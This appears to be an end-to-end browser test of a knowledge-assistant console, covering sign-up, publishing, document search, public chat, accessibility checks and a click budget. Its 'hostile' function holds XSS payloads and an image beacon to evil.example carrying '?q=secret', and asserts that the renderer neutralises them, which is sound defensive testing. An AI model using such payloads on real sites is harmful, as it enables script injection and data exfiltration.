// Sign-up, the sample assistant, a document uploaded and found, publishing, a chat on the public page with its sources;
// clicks counted, main pages looked at by axe, hostile Markdown rendered. Run with a server's base URL, and over one on the
// edge with its setup token, too: there a provider's model answers.
import assert from 'node:assert/strict'
import { looker } from './axe.mjs'
import { launch, sample, signUp, watched } from './browser.mjs'
import { fakeModel, useProvider } from './fake-model.mjs'

const [base, token] = process.argv.slice(2)
const MOST_CLICKS = 25

const browser = await launch()
const { page, problems } = await watched(browser, base)
const look = looker(page)
const model = token && (await fakeModel())

let clicks = 0
await page.exposeFunction('countClick', () => void clicks++)
await page.addInitScript(() => addEventListener('click', (event) => event.isTrusted && window.countClick(), true))

async function published() {
  await signUp(page, token)
  await look('the empty studio')
  if (model) {
    await useProvider(page, model.url)
    await page.getByRole('link', { name: 'Studio', exact: true }).first().click()
  }
  await sample(page)
  await page.getByText('As published').waitFor()
  await look('the editor')
  await page.getByLabel('Prompt', { exact: true }).fill('Answer in one short sentence, from the context only.')
  await page.getByText('Unpublished changes').waitFor()
  await page.getByRole('button', { name: 'Publish' }).click()
  await page.getByText('As published').waitFor()
  console.log(`from sign-up to a published knowledge assistant: ${clicks} clicks`)
  assert.ok(clicks <= MOST_CLICKS)
}

async function knowledge() {
  await page.getByRole('link', { name: 'Knowledge', exact: true }).first().click()
  await page.getByRole('button', { name: 'New knowledge base' }).first().click()
  await page.getByLabel('Name').fill('Boats')
  await page.getByRole('button', { name: 'Go on to documents' }).click()
  const text = '# Boats\n\nThe ferry to the island leaves every day at 9:15 from the wooden pier.\n'
  await page.locator('input[type=file]').setInputFiles({ name: 'boats.md', mimeType: 'text/markdown', buffer: Buffer.from(text) })
  await page.getByRole('button', { name: 'Add the document' }).click()
  await page.getByText(/chunks?, ready/).waitFor()
  await look('adding documents')
  await page.getByRole('link', { name: 'Try the search' }).last().click()
  await page.getByLabel('Question').fill('When does the ferry leave?')
  await page.getByRole('button', { name: 'Search' }).click()
  await page.getByText('wooden pier').waitFor()
  await look('trying the search')
}

async function chat(link) {
  const visitor = await watched(browser, base)
  await visitor.page.goto(link)
  await visitor.page.getByRole('button', { name: 'Where do I leave the key?' }).click()
  await visitor.page.getByText('Sources').waitFor()
  await look('the public chat', visitor.page)
  await visitor.page.getByRole('button', { name: 'house-rules.md' }).click()
  await visitor.page.getByRole('dialog').getByText('blue box').waitFor()
  await visitor.page.keyboard.press('Escape')
  await visitor.page.getByRole('button', { name: 'Good answer' }).click()
  await visitor.page.reload()
  await visitor.page.getByText('Sources').waitFor()
  assert.deepEqual(visitor.problems, [])
  await visitor.context.close()
}

async function watch(app) {
  await page.goto(`${app}/logs`)
  await page.getByText('Where do I leave the key?').first().click()
  await page.getByRole('button', { name: 'What the model saw' }).first().click()
  await page.getByText('The prompt', { exact: true }).waitFor()
  await page.getByText('in the prompt').first().waitFor()
  for (const part of ['logs', 'monitor', 'share', 'api', 'annotations']) {
    await page.goto(`${app}/${part}`)
    await page.waitForLoadState('networkidle')
    await look(part)
  }
  for (const path of ['/settings', '/settings/tools', '/settings/keys', '/settings/members', '/settings/requests', '/settings/log-retention', '/settings/backup', '/settings/account', '/knowledge']) {
    await page.goto(path)
    await page.waitForLoadState('networkidle')
    await look(path)
  }
}

/** An opening that tries to run, to call out and to break the page. */
async function hostile(app) {
  const text = '<script>window.owned=1</script><img src=x onerror="window.owned=1">\n\n[click](javascript:window.owned=1)\n\n![beacon](https://evil.example/p.png?q=secret)\n\n[out](https://evil.example/?q=secret)'
  await page.goto(app)
  await page.getByLabel('Opening statement').fill(text)
  const log = page.getByRole('log')
  await log.getByText('beacon').waitFor()
  assert.equal(await log.locator('img, script').count(), 0)
  assert.equal(await log.locator('a[href^="javascript"]').count(), 0)
  await log.getByRole('link', { name: 'out' }).click()
  await page.getByText('Leave this page?').waitFor()
  await page.getByText('https://evil.example/?q=secret', { exact: true }).waitFor()
  assert.equal(await page.evaluate(() => window.owned), undefined)
}

try {
  await published()
  const app = page.url()
  const link = await page.getByRole('link', { name: 'Open the page' }).getAttribute('href')
  await knowledge()
  await chat(link)
  await watch(app)
  await hostile(app)
  assert.deepEqual(problems, [])
  console.log('the console works')
} catch (error) {
  await page.screenshot({ path: 'built/failed.png' }).catch(() => {})
  console.error(`at ${page.url()}; the page is in console/built/failed.png`)
  throw error
} finally {
  if (model) model.end()
  await browser.close()
}
